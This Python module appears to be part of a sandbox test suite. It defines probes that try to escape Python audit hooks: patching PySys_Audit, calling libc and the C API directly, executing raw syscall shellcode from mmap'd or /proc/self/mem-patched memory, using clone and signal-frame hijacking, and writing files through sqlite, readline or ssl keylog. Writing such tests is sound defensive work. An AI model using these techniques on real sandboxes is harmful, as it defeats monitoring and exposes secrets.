"""Owns the attacks below Python: around audit hooks, through the C API, with machine code of their own."""

from __future__ import annotations

from .probe import Probe

MACHINE = """
import mmap
def executable(code, writable=True):
    pages = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | (mmap.PROT_EXEC if writable else 0))
    pages.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(pages))
    if not writable:
        syscall("mprotect", address, 4096, 5)
    kept.append(pages)
    return address
kept = []
# long raw(number, a, b, c, d, e): rax=rdi; rdi=rsi; rsi=rdx; rdx=rcx; r10=r8; r8=r9; syscall; ret
RAW = bytes.fromhex("4889f8 4889f7 4889d6 4889ca 4d89c2 4d89c8 0f05 c3")
def machine(address):
    return ctypes.CFUNCTYPE(*[ctypes.c_long] * 7)(address)
def checked(value):
    if value < 0:
        raise OSError(-value, os.strerror(-value))
    return value
def text(string):
    kept.append(ctypes.create_string_buffer(string.encode()))
    return ctypes.addressof(kept[-1])
def read_with(raw):
    fd = checked(raw(2, text(T["secret_file"]), 0, 0, 0, 0))
    room = ctypes.create_string_buffer(1000)
    checked(raw(0, fd, ctypes.addressof(room), 1000, 0, 0))
    show(room.value)
def connect_with(raw):
    host, port = T["tcp"]
    address = struct.pack("=HH4s8x", 2, ((port & 255) << 8) | port >> 8, bytes(map(int, host.split("."))))
    kept.append(ctypes.create_string_buffer(address))
    sock = checked(raw(41, 2, 1, 0, 0, 0))
    checked(raw(42, sock, ctypes.addressof(kept[-1]), 16, 0, 0))
"""
SHELL = 'T["tools"]["touch"] + " " + T["marker"]'

PROBES = (
    Probe("ho-hook-that-lies", "hooks", """
saved = sys.audit
sys.addaudithook(lambda event, args: None)
sys.audit = lambda *args: None
try:
    show(open(T["secret_file"]).read())
finally:
    sys.audit = saved
"""),
    Probe("ho-audit-patched-away", "hooks", """
pages = ctypes.cast(ctypes.pythonapi.PySys_Audit, ctypes.c_void_p).value
start = pages & ~4095
syscall("mprotect", start, 8192, 7)
ctypes.memmove(pages, bytes.fromhex("31c0c3"), 3)  # xor eax, eax; ret
show(open(T["secret_file"]).read())
""", alone=True),
    Probe("ho-c-library-open", "hooks", """
fd = libc.open(T["secret_file"].encode(), 0)
room = ctypes.create_string_buffer(1000)
libc.read(fd, room, 1000)
show(room.value)
"""),
    Probe("ho-stdio", "hooks", """
libc.fopen.restype = ctypes.c_void_p
file = libc.fopen(T["secret_file"].encode(), b"r")
room = ctypes.create_string_buffer(1000)
libc.fgets(room, 1000, ctypes.c_void_p(file))
show(room.value)
"""),
    Probe("ho-c-library-system", "hooks", f"libc.system(({SHELL}).encode())"),
    Probe("ho-c-library-popen", "hooks", f"""
libc.popen.restype = ctypes.c_void_p
libc.pclose(ctypes.c_void_p(libc.popen(({SHELL}).encode(), b"r")))
"""),
    Probe("ho-posixsubprocess", "hooks", """
import _posixsubprocess, time
read, write = os.pipe()
tool = T["tools"]["touch"].encode()
values = [[tool, T["marker"].encode()], [tool], True, (), None, None]
values += [-1, -1, -1, -1, -1, -1, read, write, False, False]
values += [-1, None, None, None, -1, None] if sys.version_info >= (3, 11) else []
for extra in ([], [True]):  # the signature differs from version to version
    try:
        _posixsubprocess.fork_exec(*values, *extra)
        break
    except TypeError:
        pass
time.sleep(0.3)
"""),
    Probe("ho-run-string", "hooks", f"""
ctypes.pythonapi.PyRun_SimpleString(("import os; os.system(" + repr({SHELL}) + ")").encode())
"""),
    Probe("ho-object-call", "hooks", """
call = ctypes.pythonapi.PyObject_CallFunction
call.restype = ctypes.py_object
opened = call(ctypes.py_object(open), b"s", T["secret_file"].encode())
show(opened.read())
"""),
    Probe("ho-pending-call", "hooks", """
import time
@ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_void_p)
def later(_):
    show(open(T["secret_file"]).read())
    return 0
ctypes.pythonapi.Py_AddPendingCall(later, None)
time.sleep(0.1)
"""),
    Probe("ho-foreign-thread", "hooks", """
import time
@ctypes.CFUNCTYPE(ctypes.c_void_p, ctypes.c_void_p)
def body(_):
    open(os.path.join(T["outside"], T["mark"]), "w").close()
thread = ctypes.c_ulong()
libc.pthread_create(ctypes.byref(thread), None, body, None)
libc.pthread_join(thread, None)
"""),
    Probe("ho-machine-code-read", "hooks", MACHINE + """
read_with(machine(executable(RAW)))
"""),
    Probe("ho-machine-code-connect", "hooks", MACHINE + """
connect_with(machine(executable(RAW)))
"""),
    Probe("ho-machine-code-write-then-execute", "hooks", MACHINE + """
read_with(machine(executable(RAW, writable=False)))
"""),
    Probe("ho-machine-code-in-a-file", "hooks", MACHINE + """
path = os.path.join(T["work"], "code")
with open(path, "wb") as file:
    file.write(RAW.ljust(4096, b"\\0"))
fd = os.open(path, os.O_RDONLY)
libc.mmap.restype = ctypes.c_long
read_with(machine(libc.mmap(0, 4096, 5, 2, fd, ctypes.c_long(0))))
"""),
    Probe("ho-machine-code-fork", "hooks", MACHINE + """
raw = machine(executable(RAW))
for number in (57, 56):  # fork; clone with SIGCHLD
    child = raw(number, 17 if number == 56 else 0, 0, 0, 0, 0)
    if child == 0:
        leave_mark()
        raw(231, 0, 0, 0, 0, 0)
    checked(child)
    os.waitpid(child, 0)
""", alone=True),
    Probe("ho-machine-code-exec", "hooks", MACHINE + """
tool = T["tools"]["touch"]
words = (ctypes.c_long * 3)(text(tool), text(T["marker"]), 0)
nothing = (ctypes.c_long * 1)(0)
checked(machine(executable(RAW))(59, text(tool), ctypes.addressof(words), ctypes.addressof(nothing), 0, 0))
""", alone=True),
    Probe("ho-patched-c-library", "hooks", MACHINE + """
# Through /proc/self/mem even read-only code can be written.
target = ctypes.cast(libc.getppid, ctypes.c_void_p).value
with open("/proc/self/mem", "r+b", buffering=0) as memory:
    memory.seek(target)
    memory.write(RAW)
read_with(machine(target))
""", alone=True),
    Probe("ho-clone-shares-memory", "hooks", """
stack = ctypes.create_string_buffer(1 << 16)
top = (ctypes.addressof(stack) + (1 << 16)) & ~15
path = ctypes.create_string_buffer(T["marker"].encode())
flags = 0x100 | 17  # CLONE_VM, SIGCHLD
child = libc.clone(ctypes.cast(libc.creat, ctypes.c_void_p), ctypes.c_void_p(top), flags, path)
if child < 0:
    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
libc.waitpid(child, None, 0x40000000)
""", alone=True),
    Probe("ho-thread-outside-its-group", "hooks", """
stack = ctypes.create_string_buffer(1 << 16)
top = (ctypes.addressof(stack) + (1 << 16)) & ~15
path = ctypes.create_string_buffer(T["marker"].encode())
flags = 0x100 | 0x200 | 0x400 | 0x800 | 17  # memory, files, handlers shared, but a process of its own
child = libc.clone(ctypes.cast(libc.creat, ctypes.c_void_p), ctypes.c_void_p(top), flags, path)
if child < 0:
    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
libc.waitpid(child, None, 0x40000000)
""", alone=True),
    Probe("ho-32-bit-calls", "hooks", MACHINE + """
# int 0x80 takes 32-bit arguments: everything has to lie in the first 4 GiB.
libc.mmap.restype = ctypes.c_long
low = libc.mmap(0, 4096, 7, 0x22 | 0x40, -1, ctypes.c_long(0))
# long raw(number, b, c, d): eax=edi; ebx=esi; r9d=ecx; ecx=edx; edx=r9d; int 0x80; cdqe; ret; rbx is kept
code = bytes.fromhex("53 89f8 89f3 4189c9 89d1 4489ca cd80 4898 5b c3")
ctypes.memmove(low, code, len(code))
ctypes.memmove(low + 512, T["secret_file"].encode() + b"\\0", len(T["secret_file"]) + 1)
raw = ctypes.CFUNCTYPE(*[ctypes.c_long] * 5)(low)
fd = checked(raw(5, low + 512, 0, 0))
show(ctypes.string_at(low + 1024, checked(raw(3, fd, low + 1024, 1000))))
""", alone=True),
    Probe("ho-signal-frame", "hooks", f"""
import signal
# A handler that returns into libc.system: registers of the interrupted code are the attacker's.
command = ctypes.create_string_buffer(({SHELL}).encode())
system = ctypes.cast(libc.system, ctypes.c_void_p).value
@ctypes.CFUNCTYPE(None, ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p)
def handler(number, info, context):
    registers = (ctypes.c_long * 23).from_address(context + 40)
    registers[8] = ctypes.addressof(command)  # rdi
    registers[15] = (registers[15] - 4096 & ~15) - 8  # rsp, as after a call
    ctypes.c_long.from_address(registers[15]).value = ctypes.cast(libc._exit, ctypes.c_void_p).value
    registers[16] = system  # rip
class Action(ctypes.Structure):
    _fields_ = [("handler", ctypes.c_void_p), ("mask", ctypes.c_ulong * 16)]
    _fields_ += [("flags", ctypes.c_int), ("restorer", ctypes.c_void_p)]
action = Action(ctypes.cast(handler, ctypes.c_void_p).value, (ctypes.c_ulong * 16)(), 4, None)
libc.sigaction(signal.SIGUSR2, ctypes.byref(action), None)
libc.raise_ = libc["raise"]
libc.raise_(signal.SIGUSR2)
""", alone=True),
    Probe("ho-readline-writes", "hooks", """
import readline
readline.add_history("x")
readline.write_history_file(os.path.join(T["outside"], T["mark"]))
"""),
    Probe("ho-key-log", "hooks", """
import ssl
ssl.create_default_context().keylog_filename = os.path.join(T["outside"], T["mark"])
"""),
    Probe("ho-faulthandler", "hooks", """
import faulthandler
with open(T["secret_file"], "r+") as file:
    faulthandler.dump_traceback(file)
"""),
    Probe("ho-sqlite-writes", "hooks", """
import sqlite3
base = sqlite3.connect(":memory:")
base.execute("attach ? as other", (os.path.join(T["outside"], T["mark"]),))
base.execute("create table other.t (a)")
"""),
    Probe("ho-loader-of-the-c-library", "hooks", """
libc.dlopen.restype = ctypes.c_void_p
libc.dlmopen.restype = ctypes.c_void_p
fresh = libc.dlmopen(ctypes.c_long(-1), b"libc.so.6", 2)
libc.dlsym.restype = ctypes.c_void_p
libc.dlsym.argtypes = [ctypes.c_void_p, ctypes.c_char_p]
kind = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_char_p, ctypes.c_int)
opened = kind(libc.dlsym(fresh, b"open"))(T["secret_file"].encode(), 0)
room = ctypes.create_string_buffer(1000)
libc.read(opened, room, 1000)
show(room.value)
"""),
)  # fmt: skip
